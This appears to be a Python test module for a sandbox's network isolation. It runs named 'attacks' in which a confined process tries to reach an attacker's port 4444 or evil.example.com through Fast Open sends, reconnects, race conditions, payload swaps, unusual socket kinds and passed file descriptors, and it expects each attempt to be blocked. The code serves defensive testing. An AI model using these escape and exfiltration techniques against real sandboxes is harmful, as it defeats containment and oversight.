# SPDX-License-Identifier: Apache-2.0
"""System calls: other ways to open, connect and send than those that programs use."""

import os
import socket
import ssl

from attacks import attack
from world import ATTACKER, HOST

LISTEN = ("/usr/bin/python3", "{pub}/listen.py")
ECHO_7 = ["echo.example.com:7", "udp://echo.example.com:7"]


def probe(*words):
    """inside/attack.c: prints one line for each try."""
    return ["{pub}/attack", *map(str, words)]


# name, arguments of inside/attack.c. Each sends something to the attacker's port 4444.
SENDS = (
    ("sendto with MSG_FASTOPEN", "fastopen-sendto"),
    ("sendmsg with MSG_FASTOPEN", "fastopen-sendmsg"),
    ("sendmmsg with MSG_FASTOPEN", "fastopen-sendmmsg"),
    ("TCP_FASTOPEN_CONNECT", "fastopen-connect"),
    ("connect, after AF_UNSPEC ended a granted connection", "reconnect"),
    ("connect, a second time on the same datagram socket", "twice"),
    ("sendto another address, on a connected datagram socket", "sendto-other"),
    ("sendmmsg to two addresses, the first one granted", "sendmmsg-other"),
    ("a non-blocking connect", "nonblocking"),
    ("MPTCP", "mptcp"),
    ("connect, in a child process", "child"),
)


def add_send(name, word):
    @attack(name)
    def send(stage):
        words = probe(word, "echo.example.com", 7, ATTACKER, 4444)
        bare, events = stage.run("bare", words)
        if "absent" in bare.out:
            return  # this kernel has no such thing
        stage.expect(any(e.server == "attacker" for e in events), "it has no effect bare")
        stage.inside(words, ECHO_7, server="attacker", control="done")


for _name, _word in SENDS:
    add_send(_name, _word)


@attack("a thread changes the address while another connects, 3000 times")
def race(stage):
    words = probe("race", "echo.example.com", 7, ATTACKER, 4444, 3000)
    stage.held(words, ECHO_7, server="attacker", control="done", seconds=240)


def first_hello(name):
    sent = ssl.MemoryBIO()
    try:
        context = ssl.create_default_context()
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


FIRST = {
    "a hello of TLS": first_hello("echo.example.com"),
    "a request of HTTP": b"GET / HTTP/1.1\r\nHost: echo.example.com\r\n\r\n",
}


def add_swap(what, text):
    @attack(f"{what} in a page that changes while it is on its way, 3000 times")
    def swap(stage):
        """What was judged must be what is passed on: until it is read, the page is the sender's."""
        pub = stage.scene.world.path("pub")
        for name, content in (("asked", text), ("meant", text.replace(b"echo.", b"evil."))):
            with open(f"{pub}/{name}", "wb") as file:
                file.write(content)
        words = probe("swap", "echo.example.com", 4443, 3000, "{pub}/asked", "{pub}/meant")
        result, events = stage.run("bare", words, seconds=240)
        stage.expect(came(events, b"evil.example.com"), "it has no effect bare")
        if stage.bare_only:
            return
        result, events = stage.run("inside", words, ["echo.example.com:4443"], seconds=240)
        through = came(events, b"evil.example.com")
        stage.expect("done" in result.out, "it did not come to its end")
        stage.expect(came(events, b"echo.example.com"), "what is granted does not come through")
        stage.expect(not through, f"it got through {through} times")


def came(events, text):
    return sum(event.what == "data" and text in event.text for event in events)


for _what, _text in FIRST.items():
    add_swap(_what, _text)


KINDS = ("raw", "raw6", "ping", "ping6", "packet", "vsock", "sctp", "dccp", "udplite",
         "netlink-route", "netlink-nft", "mark", "transparent", "freebind", "device", "alg",
         "bluetooth", "can")


def add_kind(word):
    @attack(f"another kind of socket: {word}")
    def kind(stage):
        """Bare, these need a right or a module; inside, no echo comes back and nothing arrives."""
        stage.inside(probe("kind", word, ATTACKER, 4444), ECHO_7, server="attacker", see="escaped",
                     control="done")


for _word in KINDS:
    add_kind(_word)


def connect_handed(peer):
    """What came with the bytes, if anything did, is connected by us, who may go anywhere."""
    _, fds, _, _ = socket.recv_fds(peer, 1, 4)
    for fd in fds:
        with socket.socket(fileno=fd) as given:
            given.settimeout(60)
            if given.connect_ex((ATTACKER, 4444)) == 0:
                given.send(b"x")
                hear(given)


def hear(sock):
    try:
        return sock.recv(100)
    except OSError:
        return b""


@attack("a socket that is handed to the host by a granted socket stays where it is, if it arrives")
def handed_out(stage):
    """The sandbox's socket, connected by a process of the host: it still is in the sandbox."""
    if stage.bare_only:
        return
    folder = stage.scene.fresh()
    server = socket.socket(socket.AF_UNIX)
    server.bind(os.path.join(folder, "s"))
    os.chmod(os.path.join(folder, "s"), 0o777)
    server.listen(1)
    server.settimeout(60)
    mark = len(stage.servers.log)
    process = stage.scene.start(["/usr/bin/python3", "{pub}/handout.py", "{ws}/s"],
                                {"allow": [*ECHO_7, f"unix:{folder}/s"]}, folder=folder)
    try:
        peer, _ = server.accept()
        connect_handed(peer)
        peer.close()
    except OSError as error:
        stage.wrong.append(f"the socket in the workspace is not reached: {error}")
    result = stage.scene.finish(process)
    stage.results.append(("inside", result))
    came = any(e.server == "attacker" and e.what != "gone" for e in stage.servers.since(mark))
    stage.expect(not came, "it got through")


@attack("the host's Unix sockets: abstract, and at a path that is not granted")
def unix_sockets(stage):
    top = stage.scene.world.path("host.sock")
    for place, server in (("@corral-net-suite", "abstract"), (top, "socket")):
        stage.held(["/usr/bin/python3", "{pub}/handout.py", place, "greet"],
                   ECHO_7, server=server, see="sink", control="done")


@attack("a Unix socket of the host works where it is granted")
def unix_granted(stage):
    place = stage.scene.world.path("host.sock")
    stage.works(["/usr/bin/python3", "{pub}/handout.py", place, "greet"],
                {"allow": [*ECHO_7, f"unix:{place}"]}, see="sink socket")


def visit(stage, net, look):
    """look() while a server is inside, on port 9999."""
    if stage.bare_only:
        return
    process = stage.scene.start([*LISTEN, "9999"], net)
    try:
        line = process.stdout.readline()
        stage.expect(line == b"listening\n", f"it does not listen: {line!r}")
        look()
    finally:
        process.terminate()
        stage.results.append(("inside", stage.scene.finish(process)))


def reached(address, port, seconds=5):
    """What the server there says; nothing if there is none."""
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as sock:
        sock.settimeout(seconds)
        return hear(sock) if sock.connect_ex((address, port)) == 0 else b""


@attack("a server inside is not reached from the host, nor from the internet")
def listening(stage):
    def look():
        for address in ("127.0.0.1", "::1", HOST):
            stage.expect(not reached(address, 9999), f"{address}:9999 is reached from the host")
        with stage.scene.world.internet.inside():
            stage.expect(not reached(HOST, 9999), "it is reached from the internet")

    visit(stage, ECHO_7, look)


@attack("a server inside whose port is published is reached from the host, and from nowhere else")
def published(stage):
    def look():
        for _ in range(3):
            stage.expect(reached("127.0.0.1", 9999, 60) == b"served\n", "the host does not reach it")
        stage.expect(not reached("127.0.0.1", 9998), "another port is reached")
        with stage.scene.world.internet.inside():
            stage.expect(not reached(HOST, 9999), "it is reached from the internet")

    visit(stage, {"allow": ECHO_7, "listen": [9999]}, look)


@attack("a server inside serves a client inside, on any port")
def own_server(stage):
    stage.works([*LISTEN, "0", "127.0.0.1", "::1"], ECHO_7, see="served")


@attack("a server inside may take the port that is granted outside")
def same_port(stage):
    stage.inside([*LISTEN, "7", "127.0.0.1", "::1", "echo.example.com"], ECHO_7,
                 control=["served 127.0.0.1", "served ::1", "echoed echo.example.com"])
